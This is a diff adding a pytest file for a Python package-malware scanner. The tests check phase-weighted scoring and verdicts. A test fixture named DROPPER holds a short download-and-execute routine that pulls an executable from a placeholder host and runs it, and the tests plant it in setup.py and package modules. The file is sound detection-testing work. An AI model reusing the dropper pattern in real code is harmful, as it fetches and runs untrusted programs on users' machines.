@@ -1,0 +1,155 @@
+"""Scoring: where code runs scales its weight; evidence combines within a file more than across."""
+
+from __future__ import annotations
+
+import pytest
+
+from snakewarden.analysis import analyze, judge
+from snakewarden.analysis.context import Role, make_finding, phase_factor
+from snakewarden.analysis.scoring import MALICIOUS_AT, SUSPICIOUS_AT, file_scores, rule_strengths
+from snakewarden.artifacts import artifact_from_files
+from snakewarden.core.models import Finding, Phase, Severity, Verdict
+
+
+def finding(rule: str, weight: float, file: str = "pkg/setup.py", line: int = 1) -> Finding:
+    return Finding(
+        rule=rule,
+        category="threat.test",
+        severity=Severity.HIGH,
+        message=rule,
+        file=file,
+        line=line,
+        evidence="x",
+        weight=weight,
+        phase=Phase.INSTALL,
+    )
+
+
+def _reader(data: bytes):
+    return lambda n: data[:n]
+
+
+def tree(files: dict[str, str]):
+    entries = [(p, len(t.encode()), _reader(t.encode())) for p, t in files.items()]
+    return artifact_from_files("demo", entries)
+
+
+def test_phase_factor_orders_install_over_import_over_runtime() -> None:
+    install = phase_factor(Phase.INSTALL, Role.SETUP)
+    startup = phase_factor(Phase.STARTUP, Role.PTH)
+    init = phase_factor(Phase.IMPORT, Role.INIT)
+    module = phase_factor(Phase.IMPORT, Role.MODULE)
+    runtime = phase_factor(Phase.RUNTIME, Role.MODULE)
+    test = phase_factor(Phase.RUNTIME, Role.TEST)
+    assert install == startup == 1.0
+    assert install > init >= module > runtime > test > 0
+
+
+def test_make_finding_scales_and_floors() -> None:
+    args = {"file": "f.py", "line": 3, "evidence": "e", "role": Role.MODULE}
+    at_install = make_finding("r", "c.d", Severity.HIGH, "m", base=0.8, phase=Phase.INSTALL, **args)
+    at_runtime = make_finding("r", "c.d", Severity.HIGH, "m", base=0.8, phase=Phase.RUNTIME, **args)
+    floored = make_finding(
+        "r", "c.d", Severity.HIGH, "m", base=0.8, phase=Phase.RUNTIME, floor=0.75, **args
+    )
+    assert at_install.weight == pytest.approx(0.8)
+    assert at_runtime.weight == pytest.approx(0.8 * phase_factor(Phase.RUNTIME, Role.MODULE))
+    assert floored.weight == pytest.approx(0.6)
+    assert at_runtime.phase is Phase.RUNTIME
+
+
+def test_no_findings_is_clean() -> None:
+    assert judge([]) == (0.0, Verdict.CLEAN)
+
+
+def test_one_strong_finding_is_malicious_alone() -> None:
+    score, verdict = judge([finding("download-execute", 0.85)])
+    assert score >= MALICIOUS_AT
+    assert verdict is Verdict.MALICIOUS
+
+
+def test_weak_signals_in_one_file_add_up() -> None:
+    weak = [
+        finding("install-hook", 0.45),
+        finding("network-access", 0.2),
+        finding("process-exec", 0.2),
+    ]
+    score, verdict = judge(weak)
+    assert score >= SUSPICIOUS_AT
+    assert verdict in (Verdict.SUSPICIOUS, Verdict.MALICIOUS)
+    assert judge(weak[:1])[1] is Verdict.CLEAN
+
+
+def test_same_signals_spread_over_files_count_less() -> None:
+    together = [finding(r, 0.3, file="a.py") for r in ("a", "b", "c", "d")]
+    spread = [finding(r, 0.3, file=f"{r}.py") for r in ("a", "b", "c", "d")]
+    assert judge(together)[0] > judge(spread)[0]
+
+
+def test_repeats_of_one_rule_count_little() -> None:
+    once = rule_strengths([finding("r", 0.4)])["r"]
+    many = rule_strengths([finding("r", 0.4, line=i) for i in range(10)])["r"]
+    assert once < many < 0.5
+
+
+def test_package_wide_findings_join_the_top_file() -> None:
+    extra = Finding(
+        rule="typosquat",
+        category="meta.name",
+        severity=Severity.MEDIUM,
+        message="name close to requests",
+        weight=0.4,
+    )
+    package, files = file_scores([extra, finding("network-access", 0.2)])
+    assert package == pytest.approx(0.4)
+    assert files == [("pkg/setup.py", pytest.approx(0.2))]
+    assert judge([extra, finding("r", 0.3)])[0] == pytest.approx(1 - 0.6 * 0.7, abs=1e-3)
+
+
+DROPPER = """
+import os, tempfile, urllib.request
+def fetch_and_run():
+    path = os.path.join(tempfile.gettempdir(), "tool.exe")
+    urllib.request.urlretrieve("https://stage.example.invalid/tool.exe", path)
+    os.startfile(path)
+"""
+
+
+def test_same_calls_weigh_by_where_they_run() -> None:
+    in_setup = analyze(tree({"setup.py": DROPPER + "fetch_and_run()\n"}), target="x")
+    library = {f"demo/mod{i}.py": f"def f{i}(x):\n    return x + {i}\n" for i in range(15)}
+    library["demo/__init__.py"] = ""
+    library["demo/tools.py"] = DROPPER
+    in_library = analyze(tree(library), target="y")
+    assert in_setup.verdict is Verdict.MALICIOUS
+    assert in_library.verdict is Verdict.CLEAN
+    assert in_setup.score > in_library.score
+    top = in_setup.findings[0]
+    assert top.phase is Phase.INSTALL
+    assert top.file == "setup.py"
+    assert top.line > 0
+
+
+def test_capabilities_weigh_more_in_a_tiny_package() -> None:
+    big = {f"demo/mod{i}.py": f"def f{i}(x):\n    return x + {i}\n" for i in range(15)}
+    big["demo/tools.py"] = DROPPER
+    tiny = analyze(tree({"demo/tools.py": DROPPER}), target="x")
+    assert tiny.score > analyze(tree(big), target="y").score
+
+
+def test_import_time_call_is_reachable_from_module_level() -> None:
+    called = analyze(tree({"demo/__init__.py": DROPPER + "fetch_and_run()\n"}), target="x")
+    uncalled = analyze(tree({"demo/__init__.py": DROPPER}), target="y")
+    assert called.score > uncalled.score
+    assert any(f.phase is Phase.IMPORT for f in called.findings)
+
+
+def test_rules_doc_is_current() -> None:
+    from pathlib import Path
+
+    from snakewarden.analysis.docs import rules_markdown
+
+    doc = Path(__file__).resolve().parents[3] / "docs" / "rules.md"
+    assert doc.read_text(encoding="utf-8") == rules_markdown(), (
+        "regenerate: python -m snakewarden.analysis.docs > docs/rules.md"
+    )
